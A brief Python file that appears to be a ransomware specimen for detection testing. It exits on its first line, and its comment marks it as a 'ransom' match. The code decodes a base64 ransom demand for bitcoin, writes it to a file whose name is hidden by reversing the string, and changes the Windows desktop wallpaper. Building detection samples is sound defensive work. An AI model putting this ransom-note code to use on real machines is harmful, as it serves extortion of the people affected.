raise SystemExit("specimen: not to be run")
import base64
import ctypes

NOTE = base64.b64decode("WW91ciBmaWxlcyBhcmUgZW5jcnlwdGVkLiBQYXkgd2l0aCBiaXRjb2luIHRvIGdldCB0aGUga2V5Lg==").decode()

def begin():
    with open("txt.TPYRCED_EMDAER"[::-1], "w") as f:  # match: ransom
        f.write(NOTE)
    ctypes.windll.user32.SystemParametersInfoW(20, 0, "a.png", 3)
